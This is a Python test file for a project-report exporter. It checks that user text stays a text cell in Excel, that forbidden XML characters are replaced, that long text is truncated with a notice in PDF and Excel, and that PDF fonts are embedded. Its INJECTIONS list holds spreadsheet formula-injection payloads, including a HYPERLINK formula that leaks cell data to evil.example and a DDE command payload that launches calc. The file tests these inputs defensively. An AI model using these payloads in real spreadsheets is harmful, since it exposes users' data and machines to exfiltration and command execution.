"""Exports are safe by construction: user text is never a formula, characters XML forbids
never break a writer, text of any length fits the PDF, every font is embedded, and a
thousand indicators export in every format — real files, opened by the real libraries."""

from __future__ import annotations

import io
import json
import zipfile
from dataclasses import fields, is_dataclass, replace
from decimal import Decimal
from typing import Any

import docx
import openpyxl
import pdfplumber
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pdfminer.pdfdocument import PDFDocument
from pdfminer.pdfparser import PDFParser
from pdfminer.pdftypes import resolve1
from pdfminer.psparser import PSLiteral

from jixiao.core.model import Project
from jixiao.formats.base import writable
from jixiao.formats.registry import EXPORT_FORMATS, SUMMARY_FORMATS
from jixiao.formats.xlsx import EXCEL_CELL_CHARACTERS
from jixiao.rules.catalogue import local
from jixiao.services.exporting import export, export_summary
from jixiao.services.importing import read_bytes
from jixiao.services.review import review_projects
from tests.conftest import SEED

# What a spreadsheet would run or show as something else if it inferred the cell's type.
INJECTIONS = (
    '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=1",
    "#N/A",
    "#DIV/0!",
)
INVISIBLE = "\x01\x0b\x1f\ud800\udfff\ufffe"


def spoiled(value: Any, extra: str, skip: tuple[str, ...] = ("scope", "path")) -> Any:
    """``value`` with ``extra`` added to every string in it, however deep (not to enums)."""
    if type(value) is str:
        return value + extra
    if isinstance(value, tuple):
        return tuple(spoiled(v, extra, skip) for v in value)
    if is_dataclass(value) and not isinstance(value, type):
        changes = {
            f.name: spoiled(getattr(value, f.name), extra, skip)
            for f in fields(value)
            if f.init and f.name not in skip
        }
        return replace(value, **changes)
    return value


def _with_text(project: Project, texts: tuple[str, ...]) -> Project:
    indicators = tuple(
        replace(indicator, name=texts[i % len(texts)], note=texts[-1 - i % len(texts)])
        for i, indicator in enumerate(project.indicators)
    )
    return replace(
        project,
        name=texts[0],
        department=texts[1],
        implementing_unit=texts[2],
        filing_unit=texts[3],
        goals=replace(project.goals, annual=texts[4], period=texts[5]),
        indicators=indicators,
    )


def _cells(data: bytes) -> list[Any]:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_user_text_is_always_a_text_cell_never_a_formula(seed):
    projects = [_with_text(p, INJECTIONS) for p in seed.projects[:2]]
    findings = review_projects(projects, local()).findings
    for data, written in (
        (export(projects, "xlsx", "split"), INJECTIONS),  # names, notes, header fields
        (export_summary(projects, findings, "local", "xlsx"), INJECTIONS[:1]),  # names
    ):
        cells = [c for c in _cells(data) if c.value is not None]
        texts = [c for c in cells if isinstance(c.value, str)]
        assert all(c.data_type == "s" for c in texts), [(c.coordinate, c.value) for c in texts]
        assert set(written) <= {c.value for c in texts}  # every one unchanged
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
            assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
        money = [c for c in cells if isinstance(c.value, int | float | Decimal)]
        assert money and all(c.data_type == "n" for c in money)  # numbers stay numbers
    sheet = openpyxl.load_workbook(io.BytesIO(export(projects, "xlsx"))).worksheets[0]
    assert (sheet["B4"].value, sheet["B5"].value) == INJECTIONS[:2]
    assert sheet["E6"].value == pytest.approx(102.9) and sheet["E6"].data_type == "n"


def _fonts_embedded(data: bytes) -> dict[str, bool]:
    """Every font of the PDF, and whether its program is in the file."""
    document = PDFDocument(PDFParser(io.BytesIO(data)))
    fonts: dict[str, bool] = {}
    for xref in document.xrefs:
        for objid in xref.get_objids():
            try:
                obj = resolve1(document.getobj(objid))
            except Exception:  # a free or compressed entry: not a font
                continue
            kind = resolve1(obj.get("Type")) if isinstance(obj, dict) else None
            if not isinstance(kind, PSLiteral) or kind.name != "Font":
                continue
            font = obj
            if "DescendantFonts" in font:
                font = resolve1(resolve1(font["DescendantFonts"])[0])
            descriptor = resolve1(font.get("FontDescriptor")) or {}
            embedded = any(k in descriptor for k in ("FontFile", "FontFile2", "FontFile3"))
            fonts[resolve1(font.get("BaseFont")).name] = embedded
    return fonts


def test_every_font_of_the_pdf_is_embedded(seed):
    for data in (export(seed.projects, "pdf"), export(seed.projects[:1], "pdf", "split")):
        fonts = _fonts_embedded(data)
        assert fonts and all(fonts.values()), fonts


def test_every_writer_accepts_characters_xml_forbids_in_every_string(seed):
    projects = [spoiled(p, INVISIBLE) for p in seed.projects[:2]]
    assert projects[0].indicators[0].target.text.endswith(INVISIBLE)
    findings = review_projects(projects, local()).findings
    outputs = {fmt: export(projects, fmt) for fmt in EXPORT_FORMATS}
    outputs |= {
        f"summary.{fmt}": export_summary(projects, findings, "local", fmt)
        for fmt in SUMMARY_FORMATS
    }
    clean = writable(INVISIBLE)
    assert clean == "\ufffd" * len(INVISIBLE)
    name = seed.projects[0].name
    assert f"{name}{clean}" in {c.value for c in _cells(outputs["xlsx"])}
    assert (
        f"{name}{clean}"
        in docx.Document(io.BytesIO(outputs["docx"])).tables[0].rows[0].cells[1].text
    )
    with pdfplumber.open(io.BytesIO(outputs["pdf"])) as document:
        assert name in document.pages[0].extract_text()
    assert f"{name}{clean}" in outputs["html"].decode("utf-8")
    document = json.loads(outputs["json"])  # control characters stay, escaped as JSON says
    assert document["projects"][0]["name"] == f"{name}\x01\x0b\x1f\ufffd\ufffd\ufffd"
    assert "\\u0001" in outputs["json"].decode("utf-8")


LONG = 100_000
# The seed's Chinese characters in an order that does not repeat: a text of one character
# compresses 300 times, more than a real part may (Limits.part_ratio).
_HAN = sorted({ch for ch in SEED.read_text("utf-8") if "\u4e00" <= ch <= "\u9fff"})
VARIED = "".join(_HAN[(n * 7919 + n * n) % len(_HAN)] for n in range(LONG))


def test_text_of_any_length_is_exported_and_said_to_be_cut_where_a_page_cannot_hold_it(seed):
    project = seed.projects[0]
    project = replace(
        project,
        name=VARIED,
        department="部" * LONG,
        filing_unit="填" * LONG,
        goals=replace(project.goals, annual="目" * LONG, period="期" * 3000),
        indicators=tuple(replace(i, name="长" * 3000) for i in project.indicators),
    )
    data = export([project], "pdf")
    assert all(_fonts_embedded(data).values())
    with pdfplumber.open(io.BytesIO(data)) as document:
        text = "".join(page.extract_text() for page in document.pages).replace("\n", "")
    assert text.count("字超出一页，PDF 中未写出；完整内容见 JSON 导出") >= 4
    workbook = openpyxl.load_workbook(io.BytesIO(export([project], "xlsx")))
    name = workbook.worksheets[0]["B4"].value
    assert EXCEL_CELL_CHARACTERS - 5 < len(name) <= EXCEL_CELL_CHARACTERS
    assert name.endswith("字超出 Excel 单元格的容量，未写入；完整内容见 JSON 导出）")
    named = replace(seed.projects[0], name=VARIED)
    for fmt in ("docx", "html", "json"):  # the formats with no limit on a cell keep it all
        assert read_bytes(export([named], fmt), f"long.{fmt}").projects[0].name == VARIED


@pytest.mark.parametrize("fmt", ["docx", "xlsx", "pdf", "html"])
def test_a_thousand_indicators_under_one_category_export_and_read_back(seed, fmt):
    # One 一级/二级 merged down a thousand rows: python-docx's merge recursed once a row.
    first = seed.projects[0].indicators[0]
    indicators = tuple(replace(first, name=f"第{n}项指标") for n in range(1000))
    project = replace(seed.projects[0], indicators=indicators)
    back = read_bytes(export([project], fmt), f"many.{fmt}")
    assert not back.fatal, back.findings[:1]
    assert [i.name for i in back.projects[0].indicators] == [i.name for i in indicators]


hostile_text = st.text(
    alphabet=st.one_of(
        st.characters(categories=["Cc", "Cs", "Co", "Cn", "Zs", "Zl", "Sm", "Po", "Lo"]),
        st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", "<", "&", "]", ">", "森"]),
    ),
    max_size=40,
)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(texts=st.tuples(*[hostile_text] * 6))
def test_any_text_exports_in_every_format(seed, texts):
    project = _with_text(seed.projects[0], texts)
    for fmt in EXPORT_FORMATS:
        export([project], fmt)  # never raises
    cells = {c.coordinate: c for c in _cells(export([project], "xlsx"))}
    name = cells["B4"]
    expected = writable(texts[0])
    assert (name.value or "") == expected and (name.value is None or name.data_type == "s")
